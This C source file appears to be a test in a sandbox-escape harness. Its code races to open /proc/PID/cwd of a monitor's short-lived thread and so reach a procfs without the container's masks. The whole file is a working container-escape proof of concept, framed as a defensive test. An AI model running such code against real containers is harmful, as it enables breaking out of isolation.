// Some calls the monitor makes on a short-lived thread whose working directory is its own procfs, which has none of the
// container's masks.  Such a thread has a number like any other, and the numbers go up one by one:
// /proc/self/task/NUMBER/cwd, asked for at the right moment, would be that directory.
#include "attack.h"
#include <pthread.h>
#include <sys/inotify.h>
#include <sys/xattr.h>

static volatile pid_t newest; // of a thread that was there a moment ago
static volatile int over;

static void *calls(void *argument) {
    int watch = inotify_init1(IN_NONBLOCK), n = 0;
    while (!over) {
        for (int i = 0; i < 16; i++) {
            inotify_add_watch(watch, "/tmp", IN_OPEN);
            getxattr("/tmp", "user.x", &n, sizeof n);
        }
        pid_t pid = vfork(); // where the numbers are now
        if (pid == 0)
            _exit(0);
        newest = pid;
        waitpid(pid, NULL, 0);
    }
    return argument;
}

// Whether fd is the root of a procfs without masks: /proc/keys is a device there where it is masked.
static int unmasked(int fd) {
    struct stat st, self;
    return fstat(fd, &self) == 0 && self.st_ino == 1 && fstatat(fd, "keys", &st, AT_SYMLINK_NOFOLLOW) == 0 &&
           S_ISREG(st.st_mode);
}

int main(void) {
    pthread_t t;
    char name[64];
    if (pthread_create(&t, NULL, calls, NULL) != 0)
        attack_broken("pthread_create");
    for (unsigned i = 0; !attack_over(); i++) {
        int by_task = i & 1;
        snprintf(name, sizeof name, by_task ? "/proc/self/task/%d/cwd" : "/proc/%d/cwd",
                 newest + 1 + (int)(i / 2 % 32));
        int fd = open(name, O_PATH | O_DIRECTORY);
        if (fd < 0)
            continue;
        if (unmasked(fd))
            attack_won("%s was the monitor's procfs", name);
        close(fd);
    }
    over = 1;
    attack_lost();
}
